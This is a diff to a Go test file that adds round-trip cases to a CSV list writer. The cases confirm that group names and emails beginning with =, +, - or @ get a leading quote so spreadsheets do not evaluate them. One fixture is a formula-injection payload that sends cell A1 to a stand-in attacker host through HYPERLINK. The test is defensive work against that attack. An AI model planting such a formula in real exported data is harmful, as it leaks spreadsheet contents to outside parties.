@@ -340,6 +340,18 @@ func TestWriteRoundTrip(t *testing.T) {
 			l:    List{Kind: Groups, Entries: entries(2, "Sales, EMEA", 3, `The "A" Team`, 4, "plain", 5, "José's  group")},
 			want: "Group Name\r\n\"Sales, EMEA\"\r\n\"The \"\"A\"\" Team\"\r\nplain\r\nJosé's  group\r\n",
 		},
+		{
+			// A spreadsheet would run these as formulas: written with a quote in front, read back
+			// without it (defect 3 of issue 12).
+			name: "groups that look like formulas",
+			l:    List{Kind: Groups, Entries: entries(2, "-Contractors", 3, `=HYPERLINK("http://evil.example/?x="&A1,"x")`, 4, "+Plus", 5, "@Team", 6, "'quoted", 7, "a=b")},
+			want: "Group Name\r\n'-Contractors\r\n\"'=HYPERLINK(\"\"http://evil.example/?x=\"\"&A1,\"\"x\"\")\"\r\n'+Plus\r\n'@Team\r\n'quoted\r\na=b\r\n",
+		},
+		{
+			name: "users that look like formulas",
+			l:    List{Kind: Users, Entries: entries(2, "-ops@example.com", 3, "=eq@example.com", 4, "+plus@example.com")},
+			want: "Email\r\n'-ops@example.com\r\n'=eq@example.com\r\n'+plus@example.com\r\n",
+		},
 	}
 	for _, tt := range tests {
 		t.Run(tt.name, func(t *testing.T) {
